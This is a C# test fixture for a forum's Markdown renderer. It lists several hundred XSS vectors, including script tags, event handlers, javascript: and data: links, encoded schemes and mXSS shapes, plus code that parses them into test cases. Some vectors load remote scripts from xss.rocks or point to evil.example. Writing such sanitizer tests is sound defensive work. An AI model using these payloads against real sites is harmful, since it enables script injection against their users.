using System.Globalization;
using System.Text;
using System.Text.RegularExpressions;

namespace Forum.Infrastructure.Tests.Markdown;

/// <summary>
/// XSS vectors (OWASP XSS Filter Evasion Cheat Sheet kind, plus Markdown-specific ones) fed to the renderer.
/// Adding a vector is adding one line to <see cref="Source"/>.
/// </summary>
/// <remarks>
/// Format of <see cref="Source"/>:
/// <list type="bullet">
/// <item>One vector per line; blank lines are ignored; a line starting with ";;" is a comment.</item>
/// <item>Characters a line cannot hold are written as tokens: {LF} {CR} {TAB} {NUL} and {U+XXXX} (any code point).</item>
/// <item>";; @verbatim" switches to vectors that must also show up, as typed, in the visible text of the result
/// (raw HTML is disabled, so a typed tag is text, not something to drop silently). Only put vectors there that
/// Markdown leaves alone: no emphasis, code, links, entities, backslash escapes, line breaks.</item>
/// <item>";; @safe" switches back to vectors that only have to come out harmless.</item>
/// </list>
/// </remarks>
public static partial class XssVectors
{
    private const string Source = """"
;; @verbatim ---------------------------------------------------------------------------------------------
;; Script tags: casings, attributes, broken nesting. Typed as raw HTML, they must come out as visible text.
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script src=http://xss.rocks/xss.js></script>
<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>
<SCRIPT SRC=//xss.rocks/.j>
<script/xss src="http://xss.rocks/xss.js"></script>
<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>
<<SCRIPT>alert("XSS");//<</SCRIPT>
<script>alert(String.fromCharCode(88,83,83))</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
</script><script>alert(1)</script>
<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>
<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>
<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>
<script type="text/vbscript">MsgBox("XSS")</script>
<script>alert(1)
"><script>alert(1)</script>
'><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
;; Event handlers on all sorts of elements.
<img src=x onerror=alert(1)>
<IMG SRC=x ONERROR=alert(1)>
<img src="x" onerror="alert(1)"/>
<img/src=x/onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<IMG SRC=# onmouseover="alert('xxs')">
<IMG onmouseover="alert('xxs')">
<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>
<img src=x onerror=alert(1)
<<img src=x onerror=alert(1)>>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<body onload=alert(1)>
<BODY ONLOAD=alert('XSS')>
<body onpageshow=alert(1)>
<html onmouseover=alert(1)>
<frameset onload=alert(1)>
<iframe onload=alert(1)></iframe>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<div onmouseover="alert(1)">hover</div>
<a onmouseover="alert(document.cookie)">xxs link</a>
<a href="#" onclick="alert(1)">x</a>
<p onclick=alert(1)>x</p>
;; Active content elements.
<iframe src=javascript:alert(1)></iframe>
<IFRAME SRC="javascript:alert('XSS');"></IFRAME>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="https://evil.example"
<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>
<object data="javascript:alert(1)"></object>
<object type="text/x-scriptlet" data="http://xss.rocks/scriptlet.html"></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">
<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">
<base href="javascript:alert(1)//">
<BASE HREF="https://evil.example/">
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<isindex action=javascript:alert(1) type=image>
<link rel=stylesheet href="javascript:alert(1)">
<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">
<style>@import 'http://xss.rocks/xss.css';</style>
<style>body{background:url("javascript:alert(1)")}</style>
<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>
<bgsound src="javascript:alert(1)">
<layer src="http://xss.rocks/scriptlet.html"></layer>
<input type="image" src="javascript:alert(1)">
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<TABLE BACKGROUND="javascript:alert('XSS')">
<TABLE><TD BACKGROUND="javascript:alert('XSS')">
<template><script>alert(1)</script></template>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><script>alert(1)</script>
<title><img src=x onerror=alert(1)></title>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
;; Style attributes.
<div style="width: expression(alert(1))">x</div>
<div style="background-image: url(javascript:alert(1))">x</div>
<xss style="behavior: url(xss.htc);">
<p style="x:expression(alert(1))">x</p>
;; Raw <a href> and raw URL attributes.
<a href="javascript:alert(1)">x</a>
<a href='javascript:alert(1)'>x
<a href="javascript:alert(1)"
<a href=" javascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>
<IMG """><SCRIPT>alert("XSS")</SCRIPT>">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
;; Namespace confusion (svg / math), mXSS shapes.
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<svg><p><style><img src=x onerror=alert(1)></style></p></svg>
<math href="javascript:alert(1)">x</math>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>
<svg><set attributeName="href" to="javascript:alert(1)"/>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
;; Comments, CDATA, processing instructions.
<!-- <script>alert(1)</script> -->
<!--><script>alert(1)</script>-->
<!-- --!><script>alert(1)</script> -->
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<![CDATA[><script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<?php echo '<script>alert(1)</script>'; ?>
<!DOCTYPE html><script>alert(1)</script>
<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->
<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>
;; Character set and odd-prefix tricks.
<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-
<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>
＜script＞alert(1)＜/script＞
%3Cscript%3Ealert(1)%3C/script%3E

;; @safe -------------------------------------------------------------------------------------------------
;; Encoded or split raw HTML (Markdown decodes entities and backslash escapes, so the text is not verbatim).
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;
&lt;img src=x onerror=alert(1)&gt;
\<script>alert(1)\</script>
\u003cscript\u003ealert(1)\u003c/script\u003e
<script{TAB}>alert(1)</script>
<script{NUL}>alert(1)</script>
<scri{NUL}pt>alert(1)</scri{NUL}pt>
<script>/*{LF}*/alert(1)</script>
<img src=x onerror{TAB}=alert(1)>
<img src="x{LF}onerror="alert(1)">
<div>{LF}<script>alert(1)</script>{LF}</div>
<div>{LF}{LF}*markdown* <img src=x onerror=alert(1)>{LF}{LF}</div>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>
<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>
<IMG SRC="jav&#x0A;ascript:alert('XSS');">
<IMG SRC="jav&#x09;ascript:alert('XSS');">
<IMG SRC=" &#14;  javascript:alert('XSS');">
<a href=javas&#99;ript:alert(1)>x</a>
<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">
exp/*<A STYLE='no\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>
<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>
<br size="&{alert(1)}">
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x" />
<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>
<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>
<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">
;; Markdown inline links with dangerous schemes.
[x](javascript:alert(1))
[x](JavaScript:alert(1))
[x](JAVASCRIPT:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](javascript:alert(1) "title")
[x](javascript:alert(1) 'title')
[x](javascript:alert(1) (title))
[x](javascript://%0aalert(1))
[x](javascript://example.com/%0Aalert(1))
[x](javascript:/**/alert(1))
[x](javascript\:alert(1))
[x](java\script:alert(1))
[x](vbscript:msgbox(1))
[x](VBScript:msgbox(1))
[x](livescript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:text/html,<script>alert(1)</script>)
[x](DATA:text/html,alert(1))
[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
[x](file:///etc/passwd)
;; Entity-encoded schemes in link destinations (CommonMark decodes them).
[x](javascript&#58;alert(1))
[x](javascript&#x3a;alert(1))
[x](javascript&colon;alert(1))
[x](&#x6A;avascript:alert(1))
[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))
[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))
[x](%6A%61%76%61%73%63%72%69%70%74%3Aalert(1))
[x](\u006Aavascript:alert(1))
;; Whitespace and control characters splitting the scheme.
[x](java&#x09;script:alert(1))
[x](java&#9;script:alert(1))
[x](java&#x0A;script:alert(1))
[x](java&#x0D;script:alert(1))
[x](java&#x00;script:alert(1))
[x](&#x20;javascript:alert(1))
[x](&#x01;javascript:alert(1))
[x](java{TAB}script:alert(1))
[x](java{NUL}script:alert(1))
[x](<java{TAB}script:alert(1)>)
[x](<java{LF}script:alert(1)>)
[x](<java script:alert(1)>)
[x](<javascript{TAB}:alert(1)>)
[x](<{U+0001}javascript:alert(1)>)
[x](<{U+000C}javascript:alert(1)>)
[x](<{U+001F}javascript:alert(1)>)
[x](<{U+00A0}javascript:alert(1)>)
[x](<{U+200B}javascript:alert(1)>)
[x](<{U+FEFF}javascript:alert(1)>)
[x](<{NUL}javascript:alert(1)>)
[x](ｊavascript:alert(1))
;; Link titles and destinations trying to break out of the attribute.
[x](https://example.com "a\" onmouseover=\"alert(1)")
[x](https://example.com "\"><img src=x onerror=alert(1)>")
[x](https://example.com 'x" onclick="alert(1)')
[x](https://example.com (x" onclick="alert(1)))
[x](https://example.com"onclick="alert(1))
[x](https://example.com/"onmouseover="alert(1))
[x](https://example.com/'onmouseover='alert(1))
[x](#"onmouseover="alert(1))
[x](https://example.com "&quot; onclick=&quot;alert(1)")
[x](https://example.com "&#34;><script>alert(1)</script>")
;; Images.
![x](javascript:alert(1))
![x](JaVaScRiPt:alert(1))
![x](vbscript:msgbox(1))
![x](jav&#x09;ascript:alert(1))
![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)
![x](data:image/png;base64,iVBORw0KGgo=)
![x" onerror="alert(1)](https://example.com/a.png)
![x](https://example.com/a.png "x\" onerror=\"alert(1)")
![x](https://example.com/a.png"onerror="alert(1))
![<img src=x onerror=alert(1)>](https://example.com/a.png)
[![x](javascript:alert(1))](javascript:alert(2))
[![x](https://example.com/a.png)](vbscript:msgbox(1))
;; Autolinks.
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<vbscript:msgbox(1)>
<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>
<javascript:alert(1)//https://example.com>
<java&#x09;script:alert(1)>
<https://example.com/"onmouseover="alert(1)>
javascript:alert(1)
https://example.com/"><script>alert(1)</script>
https://example.com/<img src=x onerror=alert(1)>
www.example.com/"onmouseover="alert(1)
mailto:x@example.com"onmouseover="alert(1)
;; Reference-style links and images.
[x][r]{LF}{LF}[r]: javascript:alert(1)
[x]{LF}{LF}[x]: javascript:alert(1)
[x][]{LF}{LF}[x]: JavaScript:alert(1)
![x][r]{LF}{LF}[r]: javascript:alert(1)
[x][r]{LF}{LF}[r]: <javascript:alert(1)> "t"
[x][r]{LF}{LF}[r]: java&#x09;script:alert(1)
[x][r]{LF}{LF}[r]: https://example.com "x\" onclick=\"alert(1)"
[x][r]{LF}{LF}[r]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
[x][r]{LF}{LF}[r]:{LF}vbscript:msgbox(1)
[r]: javascript:alert(1){LF}{LF}[x][r]
;; Markdown mixed with HTML.
**<img src=x onerror=alert(1)>**
`<script>alert(1)</script>`
```{LF}<script>alert(1)</script>{LF}```
```"><script>alert(1)</script>{LF}x{LF}```
```js" onclick="alert(1){LF}x{LF}```
```javascript:alert(1){LF}x{LF}```
~~~<img/src=x/onerror=alert(1)>{LF}x{LF}~~~
    <script>alert(1)</script>
> <script>alert(1)</script>
- <img src=x onerror=alert(1)>
1. <svg onload=alert(1)>
# <svg onload=alert(1)>
Title{LF}====={LF}<script>alert(1)</script>
| a | b |{LF}|---|---|{LF}| <script>alert(1)</script> | [x](javascript:alert(1)) |
| <img src=x onerror=alert(1)> |{LF}|:-:|{LF}| ![x](javascript:alert(1)) |
- [ ] <img src=x onerror=alert(1)>
- [x] [y](javascript:alert(1))
<a href="javascript:alert(1)">*click*</a>
[a](https://example.com)<a href="javascript:alert(1)">b</a>
[x](https://example.com)<img src=x onerror=alert(1)>
[<img src=x onerror=alert(1)>](https://example.com)
*<a href="javascript:alert(1)">*x</a>
==<script>alert(1)</script>==
~~<img src=x onerror=alert(1)>~~
H~2~O <img src=x onerror=alert(1)> x^2^
++<svg onload=alert(1)>++
[x](https://example.com){onclick="alert(1)"}
[x](https://example.com){:onclick="alert(1)"}
[x](https://example.com){.c style="background:url(javascript:alert(1))"}
# heading {#id onclick=alert(1)}
[^1]{LF}{LF}[^1]: <script>alert(1)</script>
<span>{LF}[x](javascript:alert(1)){LF}</span>
" onmouseover="alert(1)
';alert(1)//
"""";

    /// <summary>One vector as written in <see cref="Source"/> (tokens not yet expanded).</summary>
    public sealed record Vector(int Line, string Raw, bool Verbatim)
    {
        /// <summary>The actual Markdown input, with tokens expanded.</summary>
        public string Markdown => Expand(Raw);

        public override string ToString() => $"line {Line}: {Raw}";
    }

    public static IReadOnlyList<Vector> All { get; } = Parse();

    /// <summary>Rows for a theory: the raw line (readable test names) and whether it must survive verbatim.</summary>
    public static TheoryData<string, bool> Rows()
    {
        var rows = new TheoryData<string, bool>();
        foreach (var vector in All)
            rows.Add(vector.Raw, vector.Verbatim);
        return rows;
    }

    public static string Expand(string raw) => TokenRegex().Replace(raw, match => match.Value switch
    {
        "{LF}" => "\n",
        "{CR}" => "\r",
        "{TAB}" => "\t",
        "{NUL}" => "\0",
        var token => char.ConvertFromUtf32(int.Parse(token[3..^1], NumberStyles.HexNumber, CultureInfo.InvariantCulture)),
    });

    private static List<Vector> Parse()
    {
        var vectors = new List<Vector>();
        var verbatim = false;
        var lines = Source.Split('\n');
        for (var i = 0; i < lines.Length; i++)
        {
            var line = lines[i].TrimEnd('\r');
            if (line.Length == 0)
                continue;
            if (line.StartsWith(";;", StringComparison.Ordinal))
            {
                if (line.StartsWith(";; @verbatim", StringComparison.Ordinal))
                    verbatim = true;
                else if (line.StartsWith(";; @safe", StringComparison.Ordinal))
                    verbatim = false;
                continue;
            }
            vectors.Add(new Vector(i + 1, line, verbatim));
        }
        return vectors;
    }

    [GeneratedRegex(@"\{(?:LF|CR|TAB|NUL|U\+[0-9A-Fa-f]{4,6})\}")]
    private static partial Regex TokenRegex();

    /// <summary>Collapses runs of whitespace to one space, for comparing visible text.</summary>
    public static string CollapseWhitespace(string text)
    {
        var builder = new StringBuilder(text.Length);
        var space = false;
        foreach (var c in text)
        {
            if (char.IsWhiteSpace(c))
            {
                space = true;
                continue;
            }
            if (space && builder.Length > 0)
                builder.Append(' ');
            space = false;
            builder.Append(c);
        }
        return builder.ToString();
    }
}
